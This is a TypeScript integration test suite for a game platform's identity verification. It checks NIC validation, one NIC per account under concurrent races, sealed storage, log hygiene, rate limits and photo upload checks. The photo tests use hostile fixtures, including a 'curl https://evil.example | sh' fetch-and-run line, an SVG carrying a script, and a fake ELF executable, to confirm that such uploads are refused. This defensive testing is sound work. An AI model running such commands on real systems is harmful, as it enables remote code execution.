/**
 * The player's identity verification (ADR 031): submission, the checks on the NIC against the
 * registered date of birth, one NIC per account across both card formats (raced), the NIC sealed
 * at rest and never logged, and the status the player reads.
 */
import { PassThrough } from 'node:stream';
import { identityMessages, MAX_IDENTITY_PHOTO_BYTES } from 'contract/identity';
import { nicMessages } from 'contract/nic';
import { describeEachDatabase } from './support/database';
import { IDENTITY, identityState, multipart, nicOf, oldNicOf, submitIdentity, type Submission } from './support/identity';
import { cardPhoto, pngBytes } from './support/identity-photos';
import { signedInOperator } from './support/payouts';
import { bearer, startStack, type TestStack } from './support/test-apps';
import { signedInPlayer, type SignedInPlayer } from './support/withdrawals';

const DATE_OF_BIRTH = '1995-06-15';

describeEachDatabase('identity verification: the player submits', (context) => {
  const logLines: string[] = [];
  let stack: TestStack;

  beforeAll(async () => {
    const logStream = new PassThrough();
    logStream.on('data', (chunk: Buffer) => logLines.push(chunk.toString()));
    stack = await startStack(context.db, { env: { LOG_LEVEL: 'info' }, logStream });
  });
  afterAll(() => stack.close());

  const newPlayer = (dateOfBirth = DATE_OF_BIRTH) =>
    signedInPlayer(stack, context.db, { identity: 'none', dateOfBirth, firstName: 'Nimal', lastName: 'Perera' });
  const submit = (player: SignedInPlayer, submission: Partial<Submission> = {}) =>
    submitIdentity(stack.api, player.token, { uuid: player.id, nic: nicOf(player.dateOfBirth), ...submission }, cardPhoto);

  it('starts not verified, then is under review with the NIC shown by its last 4 characters only', async () => {
    const player = await newPlayer();
    expect((await identityState(stack.api, player.token, player.id)).json().content).toEqual({
      status: 'not_verified',
      nicEnding: null,
      rejectionReason: null,
      submittedAt: null,
      reviewedAt: null,
    });
    const nic = nicOf(DATE_OF_BIRTH);
    const response = await submit(player, { nic: ` ${nic} ` });
    expect(response.statusCode).toBe(200);
    expect(response.json()).toMatchObject({
      status: true,
      message: identityMessages.submitted,
      content: { status: 'under_review', nicEnding: nic.slice(-4) },
    });
    expect(response.body).not.toContain(nic);
    const state = (await identityState(stack.api, player.token, player.id)).json().content;
    expect(state).toMatchObject({ status: 'under_review', nicEnding: nic.slice(-4), rejectionReason: null, reviewedAt: null });
  });

  it('keeps the NIC, the name and the photos sealed: none of them is anywhere in the database or the logs', async () => {
    const player = await newPlayer();
    const nic = nicOf(DATE_OF_BIRTH);
    const fullName = 'Wijesinghe Arachchige Nimal Perera';
    const front = cardPhoto();
    expect((await submit(player, { nic, nicFullName: fullName, front })).statusCode).toBe(200);
    // Every column of the row, as text and as bytes.
    const { rows } = await context.db.query<Record<string, unknown>>('SELECT * FROM identity_verifications WHERE player_id = $1', [
      player.id,
    ]);
    expect(rows).toHaveLength(1);
    const row = rows[0]!;
    const asText = JSON.stringify(row, (_key, value: unknown) =>
      value instanceof Uint8Array ? Buffer.from(value).toString('latin1') : value,
    );
    for (const secret of [nic, nic.slice(0, 8), fullName, 'Wijesinghe']) expect(asText).not.toContain(secret);
    const photoPixels = Buffer.from(front.bytes).subarray(-64).toString('latin1');
    expect(asText).not.toContain(photoPixels);
    expect(Buffer.from(row.nic_sealed as Uint8Array).length).toBeGreaterThan(29 + nic.length - 1);
    const { rows: audit } = await context.db.query('SELECT * FROM identity_audit WHERE verification_id = $1', [row.id]);
    expect(JSON.stringify(audit)).not.toContain(nic);
    expect(logLines.join('')).not.toContain(nic);
    expect(logLines.join('')).not.toContain(fullName);
  });

  it('refuses an NIC whose birth date is not the registered one, or of someone under 16, storing nothing', async () => {
    const player = await newPlayer();
    const wrongNic = nicOf('1995-06-16');
    const mismatch = await submit(player, { nic: wrongNic });
    expect(mismatch.statusCode).toBe(400);
    expect(mismatch.json()).toMatchObject({ error_code: 'VALIDATION_FAILED', message: nicMessages.dateOfBirthMismatch });

    const young = new Date();
    const child = await newPlayer(`${young.getUTCFullYear() - 10}-01-15`);
    const tooYoung = await submit(child);
    expect(tooYoung.json()).toMatchObject({ error_code: 'VALIDATION_FAILED', message: nicMessages.tooYoung });

    const { rows } = await context.db.query('SELECT count(*)::int AS n FROM identity_verifications WHERE player_id = ANY($1)', [
      [player.id, child.id],
    ]);
    expect(rows[0]).toEqual({ n: 0 });
    // Refused numbers are not logged either.
    expect(logLines.join('')).not.toContain(wrongNic);
  });

  it.each([
    ['malformed', { nic: '12345' }, nicMessages.format],
    ['an impossible day', { nic: '199540012345' }, nicMessages.impossibleDay],
    ['no name', { nicFullName: '   ' }, identityMessages.fullNameRequired],
    ['a name with digits', { nicFullName: 'Nimal 2' }, identityMessages.fullNameFormat],
  ])('refuses %s with a clear message', async (_what, submission, message) => {
    const player = await newPlayer();
    const response = await submit(player, submission);
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ status: false, error_code: 'VALIDATION_FAILED', message: expect.stringContaining(message) });
    expect((await identityState(stack.api, player.token, player.id)).json().content.status).toBe('not_verified');
  });

  it('is one NIC per account whatever the card format: the second account is refused and flagged, the first keeps it', async () => {
    const first = await newPlayer();
    const second = await newPlayer();
    const nic = `${nicOf(DATE_OF_BIRTH).slice(0, 7)}0${String(Math.floor(Math.random() * 10_000)).padStart(4, '0')}`;
    expect((await submit(first, { nic: oldNicOf(nic) })).statusCode).toBe(200);
    const again = await submit(second, { nic });
    expect(again.statusCode).toBe(409);
    expect(again.json()).toMatchObject({ error_code: 'NIC_IN_USE', message: identityMessages.nicInUse });
    expect((await identityState(stack.api, second.token, second.id)).json().content.status).toBe('not_verified');
    const { rows } = await context.db.query(
      'SELECT player_id AS "playerId", holder_id AS "holderId" FROM identity_duplicate_attempts WHERE player_id = $1',
      [second.id],
    );
    expect(rows).toEqual([{ playerId: second.id, holderId: first.id }]);
  });

  it('lets 12 accounts race with one NIC: exactly one holds it, the other 11 are refused and flagged', async () => {
    const players = await Promise.all(Array.from({ length: 12 }, () => newPlayer()));
    const nic = nicOf(DATE_OF_BIRTH);
    const answers = await Promise.all(players.map((player) => submit(player, { nic })));
    const codes = answers.map((answer) => answer.statusCode).sort();
    expect(codes).toEqual([200, ...Array(11).fill(409)]);
    const { rows } = await context.db.query<{ n: number }>(
      'SELECT count(*)::int AS n FROM identity_duplicate_attempts WHERE player_id = ANY($1)',
      [players.map((p) => p.id)],
    );
    expect(rows[0]!.n).toBe(11);
  });

  it('takes one submission of a player sending 6 at once; the rest are told it is under review', async () => {
    const player = await newPlayer();
    const answers = await Promise.all(Array.from({ length: 6 }, () => submit(player, { nic: nicOf(DATE_OF_BIRTH) })));
    expect(answers.filter((answer) => answer.statusCode === 200)).toHaveLength(1);
    for (const answer of answers.filter((a) => a.statusCode !== 200)) {
      expect(answer.json()).toMatchObject({ error_code: 'IDENTITY_SUBMITTED', message: identityMessages.alreadyUnderReview });
    }
    const { rows } = await context.db.query<{ n: number }>('SELECT count(*)::int AS n FROM identity_verifications WHERE player_id = $1', [
      player.id,
    ]);
    expect(rows[0]!.n).toBe(1);
  });

  it('answers 401 without a token (before reading the form) and 403 for another player’s uuid, storing nothing', async () => {
    const player = await newPlayer();
    const other = await newPlayer();
    const forOther = await submitIdentity(stack.api, player.token, { uuid: other.id, nic: nicOf(DATE_OF_BIRTH) }, cardPhoto);
    expect(forOther.statusCode).toBe(403);
    expect((await identityState(stack.api, player.token, other.id)).statusCode).toBe(403);
    expect((await stack.api.inject({ url: `/api/external/v1/identity-verification?uuid=${player.id}` })).statusCode).toBe(401);
    const operator = await signedInOperator(stack, context.db);
    expect((await identityState(stack.api, operator.token, operator.id)).statusCode).toBe(403);
    const { rows } = await context.db.query<{ n: number }>(
      'SELECT count(*)::int AS n FROM identity_verifications WHERE player_id = ANY($1)',
      [[player.id, other.id]],
    );
    expect(rows[0]!.n).toBe(0);
  });

  it('counts submissions per player before reading them: the 6th within the window is 429', async () => {
    const limited = await startStack(context.db, { env: { RATE_LIMIT_PER_TARGET: '5' } });
    try {
      const player = await signedInPlayer(limited, context.db, { identity: 'none', dateOfBirth: DATE_OF_BIRTH });
      const answers = [];
      for (let attempt = 0; attempt < 6; attempt += 1) {
        answers.push((await submitIdentity(limited.api, player.token, { uuid: player.id, nic: '12345' }, cardPhoto)).statusCode);
      }
      expect(answers).toEqual([400, 400, 400, 400, 400, 429]);
    } finally {
      await limited.close();
    }
  });

  describe('the photos, judged by their content', () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200, 0x90)]);
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');

    it.each([
      ['an executable named front.jpg', elf, 'front.jpg', 'image/jpeg'],
      ['a shell script named front.png', script, 'front.png', 'image/png'],
      ['an SVG with a script', svg, 'front.webp', 'image/webp'],
      ['a PNG cut short', pngBytes().subarray(0, 60), 'front.png', 'image/png'],
    ])('refuses %s with a clear message, storing nothing', async (_what, bytes, filename, type) => {
      const player = await newPlayer();
      const response = await submit(player, { front: cardPhoto(bytes, filename, type) });
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({
        status: false,
        error_code: 'INVALID_PHOTO',
        message: expect.stringMatching(/^Front of the NIC: /),
      });
      expect((await identityState(stack.api, player.token, player.id)).json().content.status).toBe('not_verified');
    });

    it('refuses a photo over 5 MB while reading it (413), and takes one of exactly 5 MB', async () => {
      const player = await newPlayer();
      const image = pngBytes();
      const atLimit = Buffer.concat([image, Buffer.alloc(MAX_IDENTITY_PHOTO_BYTES - image.length, 0x41)]);
      const over = Buffer.concat([atLimit, Buffer.from('A')]);
      const response = await submit(player, { front: cardPhoto(over) });
      expect(response.statusCode).toBe(413);
      expect(response.json()).toMatchObject({ status: false, message: identityMessages.photoTooLarge });
      expect((await identityState(stack.api, player.token, player.id)).json().content.status).toBe('not_verified');
      // At the limit the size passes; what follows the image's end is dropped.
      const taken = await submit(player, { front: cardPhoto(atLimit) });
      expect(taken.statusCode).toBe(200);
      const { rows } = await context.db.query<{ size: number }>(
        'SELECT octet_length(front_photo_sealed) AS size FROM identity_verifications WHERE player_id = $1',
        [player.id],
      );
      expect(rows[0]!.size).toBeLessThan(image.length + 64);
    });

    it.each([
      ['a missing back photo', { nicFront: cardPhoto() }, `nicBack: ${identityMessages.backRequired}`, 400],
      ['text where a photo goes', { nicFront: 'not a file', nicBack: cardPhoto() }, `nicFront: ${identityMessages.frontRequired}`, 400],
      [
        'a third photo',
        { nicFront: cardPhoto(), nicBack: [cardPhoto(), cardPhoto()] },
        'Send two photos at most: the front and the back of the NIC.',
        413,
      ],
    ])('refuses %s', async (_what, files, message, statusCode) => {
      const player = await newPlayer();
      const { payload, contentType } = await multipart({
        uuid: player.id,
        nic: nicOf(DATE_OF_BIRTH),
        nicFullName: 'Nimal Perera',
        ...files,
      });
      const response = await stack.api.inject({
        method: 'POST',
        url: IDENTITY,
        headers: { ...bearer(player.token), 'content-type': contentType },
        payload,
      });
      expect([response.statusCode, response.json().message]).toEqual([statusCode, message]);
    });

    it('answers a broken or truncated form, or JSON, with a 400, never a 500', async () => {
      const player = await newPlayer();
      const { payload, contentType } = await multipart({
        uuid: player.id,
        nic: nicOf(DATE_OF_BIRTH),
        nicFullName: 'Nimal Perera',
        nicFront: cardPhoto(),
        nicBack: cardPhoto(),
      });
      const cut = await stack.api.inject({
        method: 'POST',
        url: IDENTITY,
        headers: { ...bearer(player.token), 'content-type': contentType },
        payload: payload.subarray(0, payload.length - 100),
      });
      const noBoundary = await stack.api.inject({
        method: 'POST',
        url: IDENTITY,
        headers: { ...bearer(player.token), 'content-type': 'multipart/form-data' },
        payload,
      });
      const json = await stack.api.inject({
        method: 'POST',
        url: IDENTITY,
        headers: bearer(player.token),
        payload: { uuid: player.id, nic: nicOf(DATE_OF_BIRTH), nicFullName: 'Nimal Perera', nicFront: 'AAAA', nicBack: 'AAAA' },
      });
      for (const response of [cut, noBoundary, json]) {
        expect(response.statusCode).toBe(400);
        expect(response.json()).toMatchObject({ status: false, error_code: expect.any(String), message: expect.any(String) });
      }
      expect(json.json().message).toBe(`nicFront: ${identityMessages.frontRequired}`);
      expect((await identityState(stack.api, player.token, player.id)).json().content.status).toBe('not_verified');
    });
  });
});
